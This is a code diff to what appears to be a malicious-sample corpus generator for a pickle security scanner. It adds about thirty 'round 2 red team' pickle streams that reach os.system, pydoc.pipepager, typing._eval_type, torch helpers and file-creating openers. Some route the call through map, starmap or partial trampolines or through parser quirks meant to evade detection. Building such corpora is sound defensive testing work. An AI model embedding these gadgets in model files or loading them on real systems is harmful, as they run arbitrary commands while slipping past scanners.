@@ -238,6 +238,165 @@ def payloads() -> dict[str, bytes]:
 
 EVIL = pickle_of(call("os", "system", bstr(SHELL)))
 
+
+# --------------------------------------------------------------------------- red team, round 2
+# Each stream is one CPython's pickle.loads runs to the dangerous call (the regression tests
+# check that with harmless stand-ins for every global). Grouped by the class of scanner gap.
+
+TMP = "/tmp/hauberk-corpus"
+
+
+def _list_of(*items: bytes) -> bytes:
+    return b"]" + MARK + b"".join(items) + b"e"
+
+
+def redteam2() -> dict[str, tuple[bytes, str]]:
+    """Round-2 red-team gadgets: name -> (stream, ``module.name`` that the load ends up calling)."""
+    out: dict[str, tuple[bytes, str]] = {}
+    # -- callables outside the allowlist (used to be medium, or allowed by a pattern)
+    out["rt2_pydoc_pipepager"] = (
+        pickle_of(call("pydoc", "pipepager", bstr("x"), bstr(SHELL))),
+        "pydoc.pipepager",
+    )
+    out["rt2_osx_support_read_output"] = (
+        pickle_of(call("_osx_support", "_read_output", bstr(SHELL))),
+        "_osx_support._read_output",
+    )
+    out["rt2_uuid_command_stdout"] = (
+        pickle_of(call("uuid", "_get_command_stdout", bstr("id"))),
+        "uuid._get_command_stdout",
+    )
+    out["rt2_imaplib_stream"] = (
+        pickle_of(call("imaplib", "IMAP4_stream", bstr(SHELL))),
+        "imaplib.IMAP4_stream",
+    )
+    out["rt2_doctest_debug_script"] = (
+        pickle_of(call("doctest", "debug_script", bstr("import os"))),
+        "doctest.debug_script",
+    )
+    out["rt2_typing_eval_type"] = (
+        pickle_of(
+            call("typing", "_eval_type", call("typing", "ForwardRef", bstr("__import__('os')")),
+                 EMPTY_DICT, EMPTY_DICT)
+        ),
+        "typing._eval_type",
+    )  # fmt: skip
+    out["rt2_logging_dictconfig"] = (
+        pickle_of(
+            call("logging.config", "dictConfig",
+                 EMPTY_DICT + bstr("version") + b"K\x01" + SETITEM)
+        ),
+        "logging.config.dictConfig",
+    )  # fmt: skip
+    out["rt2_torch_collect_env_run"] = (
+        pickle_of(call("torch.utils.collect_env", "run", bstr(SHELL))),
+        "torch.utils.collect_env.run",
+    )
+    out["rt2_torch_fx_reduce_graph_module"] = (
+        pickle_of(
+            call("torch.fx.graph_module", "reduce_graph_module",
+                 EMPTY_DICT + bstr("_code") + bstr("import os") + SETITEM, bstr(""))
+        ),
+        "torch.fx.graph_module.reduce_graph_module",
+    )  # fmt: skip
+    out["rt2_pyio_open"] = (pickle_of(call("_pyio", "open", bstr(TMP), bstr("w"))), "_pyio.open")
+    out["rt2_numpy_npyio_impl_load"] = (
+        pickle_of(call("numpy.lib._npyio_impl", "load", bstr(TMP + ".npy"), b"N", b"\x88")),
+        "numpy.lib._npyio_impl.load",
+    )
+    out["rt2_sklearn_tempmemmap"] = (
+        pickle_of(call("sklearn.utils._testing", "TempMemmap", _list_of(b"K\x01"))),
+        "sklearn.utils._testing.TempMemmap",
+    )
+    out["rt2_gzip_open_creates_file"] = (
+        pickle_of(call("gzip", "open", bstr(TMP + ".gz"), bstr("wb"))),
+        "gzip.open",
+    )
+    out["rt2_inst_wave_open"] = (
+        MARK + b"S'" + TMP.encode() + b".wav'\nS'wb'\niwave\nopen\n" + STOP,
+        "wave.open",
+    )
+    out["rt2_newobj_ex_unknown_class"] = (
+        pickle_of(
+            stack_global("bz2", "BZ2File") + MARK + text(TMP + ".bz2") + text("wb") + TUPLE
+            + EMPTY_DICT + b"\x92",
+            4,
+        ),
+        "bz2.BZ2File",
+    )  # fmt: skip
+    # -- trampolines: an allowed callable handed the payload
+    out["rt2_list_drains_starmap"] = (
+        pickle_of(
+            call("builtins", "list",
+                 call("itertools", "starmap", glob("gzip", "open"),
+                      _list_of(MARK + bstr(TMP + ".gz") + bstr("wb") + TUPLE)))
+        ),
+        "gzip.open",
+    )  # fmt: skip
+    out["rt2_tuple_drains_map_two_iterables"] = (
+        pickle_of(
+            call("builtins", "tuple",
+                 call("builtins", "map", glob("lzma", "open"),
+                      _list_of(bstr(TMP + ".xz")), _list_of(bstr("wb"))))
+        ),
+        "lzma.open",
+    )  # fmt: skip
+    out["rt2_called_partial"] = (
+        pickle_of(call("functools", "partial", glob("wave", "open"), bstr(TMP + ".wav"),
+                       bstr("wb")) + EMPTY_TUPLE + REDUCE),
+        "wave.open",
+    )  # fmt: skip
+    out["rt2_partial_setstate_swaps_function"] = (
+        pickle_of(
+            call("builtins", "list",
+                 call("builtins", "map",
+                      call("functools", "partial", glob("builtins", "str"))
+                      + MARK + glob("wave", "open") + MARK + bstr("wb") + TUPLE
+                      + EMPTY_DICT + b"N" + TUPLE + BUILD,
+                      _list_of(bstr(TMP + ".wav"))))
+        ),
+        "wave.open",
+    )  # fmt: skip
+    out["rt2_reconstructor_base_init"] = (
+        pickle_of(
+            call("copyreg", "_reconstructor", glob("wave", "Wave_write"),
+                 glob("wave", "Wave_write"), bstr(TMP + ".wav"))
+        ),
+        "wave.Wave_write",
+    )  # fmt: skip
+    out["rt2_starmap_list_filled_after_call"] = (
+        pickle_of(
+            b"]" + put(1)
+            + call("itertools", "starmap", glob("gzip", "open"), get(1)) + put(2) + POP
+            + get(1) + MARK + MARK + bstr(TMP + ".gz") + bstr("wb") + TUPLE + b"e" + POP
+            + call("builtins", "list", get(2))
+        ),
+        "gzip.open",
+    )  # fmt: skip
+    out["rt2_map_to_pipepager"] = (
+        pickle_of(
+            call("builtins", "set",
+                 call("builtins", "map", glob("pydoc", "pipepager"), _list_of(bstr("x")),
+                      _list_of(bstr(SHELL))))
+        ),
+        "pydoc.pipepager",
+    )  # fmt: skip
+    # -- streams CPython accepts that the interpreter used to stop on, payload after them
+    pay = glob("os", "system") + MARK + b"S'" + SHELL.encode() + b"'\n" + TUPLE + REDUCE
+    out["rt2_int_negative_hex"] = (b"I-0x1\n0" + pay + STOP, "os.system")
+    out["rt2_int_nul_suffix"] = (b"I5\x00junk\n0" + pay + STOP, "os.system")
+    out["rt2_long_nul_suffix"] = (b"L7\x00L\n0" + pay + STOP, "os.system")
+    out["rt2_setitem_on_list"] = (b"(K\x01lK\x00K\x02s0" + pay + STOP, "os.system")
+    out["rt2_empty_appends_on_int"] = (b"K\x01(e" + pay + STOP, "os.system")
+    out["rt2_empty_additems_on_none"] = (proto(4) + b"N(\x90" + pay + STOP, "os.system")
+    out["rt2_append_to_bytearray"] = (
+        proto(5) + b"\x96\x01\x00\x00\x00\x00\x00\x00\x00zK\x41a0" + pay + STOP,
+        "os.system",
+    )
+    out["rt2_long_prefix_no_proto"] = (b"N0" * 40_000 + pay + STOP, "os.system")
+    return out
+
+
 # --------------------------------------------------------------------------- containers
 
 
@@ -423,6 +582,8 @@ def _malicious(out: Path) -> list[Sample]:
 
     for name, payload in payloads().items():
         add(f"{name}.pkl" if "." not in name else name, payload, name)
+    for name, (payload, reached) in redteam2().items():
+        add(f"{name}.pkl", payload, f"red team round 2: reaches {reached}")
     legacy_sd = legacy_torch(pickle_of(EMPTY_DICT))
     add("torch_zip_evil.pt", torch_zip(EVIL), "torch zip with a malicious data.pkl")
     add(
